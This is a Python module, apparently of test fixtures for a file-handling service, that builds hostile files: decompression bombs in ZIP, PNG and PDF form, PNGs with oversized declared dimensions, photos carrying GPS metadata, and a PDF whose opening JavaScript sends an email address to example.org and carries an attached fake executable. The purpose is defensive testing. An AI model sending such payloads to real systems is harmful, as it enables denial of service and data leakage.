"""Files as people send them, and as nobody should."""

import zipfile
import zlib
from io import BytesIO

import pikepdf
from PIL import Image
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen.canvas import Canvas

SECRET = b"ada.beispiel@example.org"


def picture(kind, image=None, **options):
    out = BytesIO()
    (image or Image.new("RGB", (60, 40), "red")).save(out, kind, **options)
    return out.getvalue()


def noise(width, height):
    return Image.effect_noise((width, height), 80).convert("RGB")


def pdf(pages=1, **options):
    out = BytesIO()
    canvas = Canvas(out, pagesize=A4, **options)
    canvas.setAuthor(SECRET.decode())
    for _ in range(pages):
        canvas.rect(100, 100, 200, 200, fill=1)
        canvas.showPage()
    canvas.save()
    return out.getvalue()


def locked(**passwords):
    out = BytesIO()
    with pikepdf.open(BytesIO(pdf())) as document:
        document.save(out, encryption=pikepdf.Encryption(**passwords))
    return out.getvalue()


def png_of(width, height):
    """A small file that claims a large picture."""
    rows = zlib.compress(b"\0" * 1_000, 9)
    head = width.to_bytes(4, "big") + height.to_bytes(4, "big") + b"\1\0\0\0\0"
    chunks = [(b"IHDR", head), (b"IDAT", rows), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        len(body).to_bytes(4, "big") + name + body + zlib.crc32(name + body).to_bytes(4, "big")
        for name, body in chunks
    )


def endless_pdf():
    """Each drawing holds the next one twenty times: 20 to the 12th squares."""
    out = BytesIO()
    document = pikepdf.new()
    inner = document.make_stream(b"0 0 9 9 re f")
    for _ in range(12):
        inner.Type, inner.Subtype = pikepdf.Name.XObject, pikepdf.Name.Form
        inner.BBox = [0, 0, 900, 900]
        outer = document.make_stream(b"/X Do " * 20)
        outer.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=inner))
        inner = outer
    document.add_blank_page(page_size=(600, 600))
    page = document.pages[0]
    page.Contents = inner
    page.Resources = inner.Resources
    document.save(out)
    return out.getvalue()


def pdf_with_image(side):
    """A page with a grey picture of side x side, zeroes compressed twice."""
    out = BytesIO()
    document = pikepdf.new()
    document.add_blank_page(page_size=(600, 600))
    packer = zlib.compressobj(9)
    body = b"".join(packer.compress(bytes(side)) for _ in range(side)) + packer.flush()
    image = pikepdf.Stream(document, zlib.compress(body, 9))
    image.Type, image.Subtype = pikepdf.Name.XObject, pikepdf.Name.Image
    image.Width = image.Height = side
    image.ColorSpace, image.BitsPerComponent = pikepdf.Name.DeviceRGB, 8
    image.Filter = [pikepdf.Name.FlateDecode, pikepdf.Name.FlateDecode]
    page = document.pages[0]
    page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=image))
    page.Contents = document.make_stream(b"600 0 0 600 0 0 cm /X Do")
    document.save(out, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return out.getvalue()


def with_exif():
    """A photo that says where it was taken and by whom."""
    exif = Image.Exif()
    exif[0x010E] = SECRET.decode()
    exif.get_ifd(0x8825).update({1: "N", 2: (52.0, 31.0, 0.0), 3: "E", 4: (13.0, 24.0, 0.0)})
    return picture("JPEG", exif=exif)


def moving(kind):
    return picture(kind, save_all=True, append_images=[Image.new("RGB", (60, 40), "blue")])


def zip_bomb():
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("passport.png", bytes(50 * 2**20))
    return out.getvalue()


def text_bomb():
    """A PNG with a comment that unpacks to 200 MB."""
    packer = zlib.compressobj(9)
    body = b"".join(packer.compress(bytes(2**20)) for _ in range(200)) + packer.flush()
    chunk = b"Comment\0\0" + body
    named = b"zTXt" + chunk
    bomb = len(chunk).to_bytes(4, "big") + named + zlib.crc32(named).to_bytes(4, "big")
    plain = picture("PNG")
    return plain[:33] + bomb + plain[33:]  # after IHDR


def scripted_pdf():
    """Opens with a script, and carries a program."""
    out = BytesIO()
    with pikepdf.open(BytesIO(pdf())) as document:
        script = f"app.launchURL('https://example.org/?{SECRET.decode()}', true);"
        document.Root.OpenAction = pikepdf.Dictionary(
            S=pikepdf.Name.JavaScript, JS=pikepdf.String(script)
        )
        document.attachments["setup.exe"] = b"MZ" + SECRET
        document.save(out)
    return out.getvalue()
